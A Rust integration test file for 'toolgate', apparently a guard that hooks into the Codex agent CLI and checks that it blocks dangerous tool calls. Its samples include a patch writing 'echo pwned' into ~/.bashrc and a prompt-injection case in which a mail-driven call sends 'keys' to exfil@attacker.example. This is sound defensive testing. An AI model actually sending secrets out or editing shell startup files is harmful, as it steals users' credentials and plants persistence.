//! The real Codex (`@openai/codex`, pinned in tests/package.json) with toolgate's hooks
//! installed by `toolgate init --client codex --hooks` (the project's `.codex/hooks.json`,
//! trusted by `init` through `codex app-server`; the project trusted in
//! `~/.codex/config.toml`), driven offline by a scripted mock of OpenAI's Responses API
//! (`support::agent_cli`). `--dangerously-bypass-approvals-and-sandbox` turns Codex's own
//! approvals off, so toolgate alone decides.

use std::path::Path;

use serde_json::json;

use crate::support::agent_cli::{
    Agent, RemoteEverything, check_echo_through_toolgate, check_mail_run,
};
use crate::support::hooks::World;
use crate::support::model_mock::call;

#[test]
fn a_key_read_by_a_shell_command_never_runs_and_an_allowed_command_does() {
    let Some(codex) = Agent::codex() else {
        return;
    };
    codex.check_key_never_read_and_allowed_command_runs();
}

#[test]
fn a_command_naming_a_host_only_untrusted_content_named_does_not_run() {
    let Some(codex) = Agent::codex() else {
        return;
    };
    codex.check_tainted_host_command_does_not_run();
}

#[test]
fn a_hook_executable_deleted_after_init_leaves_the_tool_not_run() {
    let Some(codex) = Agent::codex() else {
        return;
    };
    codex.check_deleted_hook_leaves_the_tool_not_run();
}

/// A patch applied through the shell (`apply_patch <<'EOF'`, which Codex applies itself):
/// one that writes the user's `~/.bashrc` is denied with the file named and writes nothing,
/// one that adds a file to the project goes through.
#[test]
fn a_patch_is_judged_by_the_files_it_writes() {
    let Some(codex) = Agent::codex() else {
        return;
    };
    let w = codex.world(Path::new(env!("CARGO_BIN_EXE_toolgate")));
    let bashrc = w.base().join("home/.bashrc");
    let patch = |file: &str| {
        format!(
            "apply_patch <<'EOF'\n*** Begin Patch\n*** Add File: {file}\n+echo pwned\n*** End Patch\nEOF"
        )
    };
    let script = vec![
        call(
            "exec_command",
            json!({"cmd": patch(bashrc.to_str().unwrap())}),
        ),
        call("exec_command", json!({"cmd": patch("notes.txt")})),
    ];
    let (mock, out) = codex.run(&w, "take notes", script, &[]);
    let results = mock.tool_results();
    assert_eq!(results.len(), 2, "{results:?}\n{out}");
    assert!(!bashrc.exists(), "{results:?}");
    assert!(
        results[0].contains("toolgate") && results[0].contains(".bashrc"),
        "{results:?}"
    );
    assert_eq!(
        std::fs::read_to_string(w.project().join("notes.txt")).unwrap(),
        "echo pwned\n",
        "{results:?}"
    );
}

/// An ask in a headless run: Codex has no ask (a hook that answers `ask` counts as failed,
/// and the call runs), so toolgate denies and says why; the tool did not run.
#[test]
fn an_ask_in_a_headless_run_neither_hangs_nor_runs_the_tool() {
    let Some(codex) = Agent::codex() else {
        return;
    };
    codex.check_headless_ask_neither_hangs_nor_runs(&[
        "default is ask",
        "cannot ask",
        "waits in `toolgate approvals` as request",
    ]);
}

/// The same ask with a person at `toolgate approvals`: allowed once there while the hook
/// waits, the call runs (Codex itself cannot ask).
#[test]
fn an_ask_answered_in_toolgate_approvals_runs_the_tool() {
    let Some(codex) = Agent::codex() else {
        return;
    };
    codex.check_ask_answered_in_toolgate_approvals_runs();
}

/// `init` recorded Codex's trust in each hook, and `doctor` asks Codex about it: trusted
/// after `init`; once the entries change (here, to the form written before they failed
/// closed), Codex runs none of them and `doctor` fails the check, until `init` brings them
/// up to date and trusts them again.
#[test]
fn doctor_asks_codex_whether_it_trusts_the_hooks() {
    let Some(codex) = Agent::codex() else {
        return;
    };
    let exe = Path::new(env!("CARGO_BIN_EXE_toolgate"));
    let w = codex.world(exe);
    let doctor = codex.toolgate(&w, exe, &["doctor"]);
    assert!(
        doctor.contains("codex trusts toolgate's 4 hooks"),
        "{doctor}"
    );
    let settings = codex.settings(&w);
    let text = std::fs::read_to_string(&settings).unwrap();
    std::fs::write(&settings, text.replace(" || exit 2", "")).unwrap();
    let doctor = codex.toolgate(&w, exe, &["doctor"]);
    assert!(
        doctor.contains("codex does not run 4 of toolgate's hooks"),
        "{doctor}"
    );
    codex.init(&w, exe, &["--hooks", "--scope", "project"]);
    let doctor = codex.toolgate(&w, exe, &["doctor"]);
    assert!(
        doctor.contains("codex trusts toolgate's 4 hooks"),
        "{doctor}"
    );
}

/// One agent session across Codex's hooks and the MCP server `init` wrapped in
/// `~/.codex/config.toml` (`[mcp_servers.mail]`; Codex offers its tools in the namespace
/// `mcp__mail`): the attacker's address that only a mail names never reaches the server;
/// the address the user typed does (the prompt hook vouches for it once Codex's session log
/// holds the prompt).
#[test]
fn an_address_only_a_mail_named_never_reaches_the_server_and_one_the_prompt_named_does() {
    let Some(codex) = Agent::codex() else {
        return;
    };
    let w = World::with_policy("version: 1\ndefault: allow\npacks: [email]\n");
    let record = w.base().join("record.jsonl");
    let server = toolgate_testkit::bin_path("attack_server");
    let exe = Path::new(env!("CARGO_BIN_EXE_toolgate"));
    let policy = w.policy();
    let policy = policy.to_str().unwrap();
    let w = codex.world_with(w, exe, &["--policy", policy]);
    let config = w.base().join("home/.codex/config.toml");
    let mut text = std::fs::read_to_string(&config).unwrap();
    text.push_str(&format!(
        "\n[mcp_servers.mail]\ncommand = {}\nargs = [\"--kind\", \"mail\", \"--record\", {}]\n",
        json!(server),
        json!(record)
    ));
    std::fs::write(&config, text).unwrap();
    let project = w.project().to_str().unwrap().to_owned();
    codex.init(&w, exe, &["--policy", policy, "--workspace", &project]);
    let wrapped = std::fs::read_to_string(&config).unwrap();
    assert!(
        wrapped.contains("args = [\"wrap\", \"--server\", \"mail\"")
            && wrapped.contains("trusted_hash"),
        "{wrapped}"
    );
    let script = vec![
        call("mcp__mail.read_email", json!({"message_id": "1"})),
        call(
            "mcp__mail.send_email",
            json!({"to": ["exfil@attacker.example"], "subject": "keys", "body": "as asked"}),
        ),
        call(
            "mcp__mail.send_email",
            json!({"to": ["bob@partner.example"], "subject": "notes", "body": "my notes"}),
        ),
    ];
    let (mock, out) = codex.run(
        &w,
        "Read email 1, then send my notes to bob@partner.example",
        script,
        &[],
    );
    check_mail_run(&mock, &out, &record, 0, true);
    // `unwrap` gives the server back as it was.
    codex.unwrap(&w, exe);
    let restored = std::fs::read_to_string(&config).unwrap();
    assert!(
        restored.contains(&format!("command = {}", json!(server))),
        "{restored}"
    );
}

#[test]
fn a_broker_that_cannot_start_leaves_the_tool_not_run() {
    let Some(codex) = Agent::codex() else {
        return;
    };
    codex.check_broker_that_cannot_start_leaves_the_tool_not_run();
}

#[test]
fn a_broker_that_hangs_leaves_the_tool_not_run() {
    let Some(codex) = Agent::codex() else {
        return;
    };
    codex.check_hanging_broker_leaves_the_tool_not_run();
}

/// A remote server (`url`: server-everything over Streamable HTTP, on loopback, with a
/// `bearer_token_env_var`) becomes a stdio one running `toolgate wrap --url`, the variable
/// forwarded through `env_vars`: Codex starts it, the call reaches the server through
/// toolgate (its audit has the decision), and `unwrap` gives the entry back.
#[test]
fn a_remote_server_is_wrapped_and_its_calls_go_through_toolgate() {
    let Some(codex) = Agent::codex() else {
        return;
    };
    let Some(server) = RemoteEverything::start() else {
        return;
    };
    let port = server.port;
    let w = World::with_policy("version: 1\ndefault: allow\npacks: []\n");
    let exe = Path::new(env!("CARGO_BIN_EXE_toolgate"));
    let policy = w.policy();
    let policy = policy.to_str().unwrap();
    let w = codex.world_with(w, exe, &["--policy", policy]);
    let config = w.base().join("home/.codex/config.toml");
    let mut text = std::fs::read_to_string(&config).unwrap();
    let remote = format!(
        "\n[mcp_servers.everything]\nurl = \"http://127.0.0.1:{port}/mcp\"\n# any variable Codex has: it reaches `wrap` only through `env_vars`\nbearer_token_env_var = \"HOME\"\n"
    );
    text.push_str(&remote);
    std::fs::write(&config, &text).unwrap();
    let project = w.project().to_str().unwrap().to_owned();
    codex.init(&w, exe, &["--policy", policy, "--workspace", &project]);
    let wrapped = std::fs::read_to_string(&config).unwrap();
    assert!(
        wrapped.contains("\"--url\"") && wrapped.contains("env_vars = [\"HOME\"]"),
        "{wrapped}"
    );
    check_echo_through_toolgate(&codex, &w, "mcp__everything.echo", server);
    codex.unwrap(&w, exe);
    let restored = std::fs::read_to_string(&config).unwrap();
    assert!(restored.ends_with(&remote), "{restored}");
}
